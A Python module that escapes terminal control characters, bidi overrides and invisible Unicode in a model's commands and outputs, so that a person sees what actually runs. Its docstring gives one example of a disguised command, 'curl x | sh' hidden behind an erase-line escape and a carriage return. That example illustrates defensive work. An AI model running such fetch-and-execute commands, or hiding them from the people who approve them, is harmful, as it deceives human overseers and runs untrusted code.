"""Text as a person sees it on a terminal: what is shown is what runs.

A model's command, a step name or a command's output may hold characters a terminal acts
on instead of showing: an escape sequence that erases the line (`\\x1b[2K`), a carriage
return that starts it again, a bidi override that reverses it, a lone surrogate no encoder
can write. `visible` writes each of them as its Python escape (`\\x1b`, `\\r`, `\\u202e`),
so `curl x | sh #\\x1b[2K\\rRun pytest` cannot pass for `Run pytest`.
"""

from __future__ import annotations

import re

# C0 controls but tab and newline, DEL, C1 controls, the bidi marks, embeddings, overrides
# and isolates (U+061C, U+200E-200F, U+202A-202E, U+2066-2069), and what shows as nothing,
# or breaks a line where no newline is: the soft hyphen, the Hangul fillers, the Mongolian
# vowel separator, the zero width space, the line and paragraph separators, the word joiner
# and invisible operators, the deprecated format characters (U+206A-206F), the BOM, the
# interlinear annotation marks, the musical format characters and the tag characters; and
# the surrogates (never valid alone in text). U+200C-200D stay: scripts and emoji join with
# them.
_UNSEEN = (
    "\u00ad\u061c\u115f\u1160\u180e\u200b\u200e\u200f\u2028\u2029\u202a-\u202e"
    "\u2060-\u2064\u2066-\u206f\u3164\ufeff\uffa0\ufff9-\ufffb"
    "\U0001d173-\U0001d17a\U000e0000-\U000e007f"
)
_HIDDEN = re.compile(f"[\x00-\x08\x0b-\x1f\x7f-\x9f{_UNSEEN}\ud800-\udfff]")
_HIDDEN_IN_A_LINE = re.compile(f"[\x00-\x1f\x7f-\x9f{_UNSEEN}\ud800-\udfff]")
_NAMED = {"\t": "\\t", "\n": "\\n", "\r": "\\r"}


def _escape(found: re.Match[str]) -> str:
    char = found.group()
    if char in _NAMED:
        return _NAMED[char]
    code = ord(char)
    if code < 0x100:
        return f"\\x{code:02x}"
    return f"\\u{code:04x}" if code < 0x10000 else f"\\U{code:08x}"


def visible(text: str, one_line: bool = False) -> str:
    """`text` with every character a terminal would act on written as its escape.

    Newlines and tabs stay, unless `one_line` (a question, which must not be pushed off
    the screen or split by the text it quotes).
    """
    return (_HIDDEN_IN_A_LINE if one_line else _HIDDEN).sub(_escape, text)


# What `json.dumps(..., ensure_ascii=False)` leaves raw that a terminal acts on, hides or
# cannot write: DEL, C1 controls, the unseen characters above and surrogates (it escapes C0).
_RAW_IN_JSON = re.compile(f"[\x7f-\x9f{_UNSEEN}\ud800-\udfff]")


def visible_json(text: str) -> str:
    """JSON text with those characters as `\\uXXXX` escapes: the same document to a parser,
    nothing a terminal acts on to a person."""
    if text.isascii() and "\x7f" not in text:
        return text  # DEL is the one of them in ASCII: two quick looks, not a scan per char
    return _RAW_IN_JSON.sub(lambda found: _json_escape(ord(found.group())), text)


def _json_escape(code: int) -> str:
    """`\\uXXXX`, or its surrogate pair beyond the basic plane (as JSON writes it)."""
    if code < 0x10000:
        return f"\\u{code:04x}"
    code -= 0x10000
    return f"\\u{0xD800 + (code >> 10):04x}\\u{0xDC00 + (code & 0x3FF):04x}"
